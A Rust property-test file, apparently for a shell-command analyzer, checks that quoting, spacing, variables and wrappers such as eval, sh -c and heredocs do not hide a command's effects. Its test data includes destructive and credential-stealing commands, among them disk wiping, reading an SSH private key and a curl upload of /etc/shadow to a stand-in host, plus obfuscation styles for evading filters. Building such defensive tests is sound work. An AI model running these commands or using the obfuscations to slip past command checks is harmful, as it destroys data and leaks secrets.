//! Ways of writing the same command, which must not change what it does.

use crate::{effects, reading};
use proptest::prelude::*;
use std::collections::BTreeSet;

const COMMANDS: &[&[&str]] = &[
    &["rm", "-rf", "/srv/data"],
    &["cp", "a.txt", "/tmp/b"],
    &["git", "push", "--force", "origin", "main"],
    &["chmod", "777", "run.sh"],
    &["cat", "/home/dev/.ssh/id_rsa"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["curl", "-d", "@/etc/shadow", "https://x.example/up"],
    &["kill", "-9", "42"],
];

fn plain(words: &[&str]) -> BTreeSet<String> {
    effects(&reading(&words.join(" "))).into_iter().collect()
}

fn written(word: &str, style: u8) -> String {
    match style % 6 {
        0 => word.to_owned(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => word.chars().map(|c| format!("\\{c}")).collect(),
        4 => format!("$'{}'", word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>()),
        _ => {
            let (first, rest) = word.split_at(1);
            format!("{first}\"\"'{rest}'")
        }
    }
}

fn blank(style: u8) -> &'static str {
    match style % 4 {
        0 => " ",
        1 => "\t ",
        2 => "   ",
        _ => " \\\n ",
    }
}

fn inside(text: &str, style: u8) -> String {
    let quoted = format!("'{}'", text.replace('\'', "'\\''"));
    match style % 10 {
        0 => format!("sh -c {quoted}"),
        1 => format!("bash -lc {quoted}"),
        2 => format!("eval {quoted}"),
        3 => format!("( {text} )"),
        4 => format!("if true; then {text}; fi"),
        5 => format!("echo $( {text} )"),
        6 => format!("nohup sh -c {quoted} &"),
        7 => format!("bash <<'END'\n{text}\nEND"),
        8 => format!("f() {{ {text}; }}; f"),
        _ => format!("true && {{ {text}; }} || false"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn quoting_and_spacing_lose_nothing(which in 0..COMMANDS.len(), styles in prop::collection::vec(any::<u8>(), 12)) {
        let words = COMMANDS[which];
        let mut text = String::new();
        for (word, style) in words.iter().zip(&styles) {
            text.push_str(&written(word, *style));
            text.push_str(blank(style / 6));
        }
        let found: BTreeSet<String> = effects(&reading(&text)).into_iter().collect();
        prop_assert_eq!(plain(words), found, "{}", text);
    }

    #[test]
    fn variables_lose_nothing(which in 0..COMMANDS.len(), mask in any::<u8>(), name in "[A-Z][A-Z0-9_]{3,8}X") {
        let words = COMMANDS[which];
        let mut text = String::new();
        let mut call = Vec::new();
        for (index, word) in words.iter().enumerate() {
            if mask & (1 << index) == 0 {
                call.push((*word).to_owned());
            } else {
                text.push_str(&format!("{name}{index}='{word}'; "));
                call.push(format!("\"${{{name}{index}}}\""));
            }
        }
        text.push_str(&call.join(" "));
        let found: BTreeSet<String> = effects(&reading(&text)).into_iter().collect();
        prop_assert_eq!(plain(words), found, "{}", text);
    }

    #[test]
    fn wrapping_loses_nothing(which in 0..COMMANDS.len(), styles in prop::collection::vec(any::<u8>(), 1..4)) {
        let words = COMMANDS[which];
        let text = styles.iter().fold(words.join(" "), |text, style| inside(&text, *style));
        let found: BTreeSet<String> = effects(&reading(&text)).into_iter().collect();
        for effect in plain(words) {
            prop_assert!(found.contains(&effect), "{} lost {}: {:?}", text, effect, found);
        }
    }

    #[test]
    fn no_text_is_refused(text in "[\\PC\n]{0,200}") {
        let _ = reading(&text);
    }

    #[test]
    fn no_mix_of_signs_is_refused(signs in prop::collection::vec(prop::sample::select(vec!["$(", ")", "(", "${", "}", "{ ", "'", "\"", "`", "<<E\n", "E\n", "|", "&", ";", ";;", "\n", "if ", "then ", "fi ", "do ", "done ", "case x in ", "esac ", "[[ ", "]] ", "((", "))", "a ", "$a", ">", "<(", "\\", "#", "rm x "]), 0..80)) {
        let _ = reading(&signs.concat());
    }
}
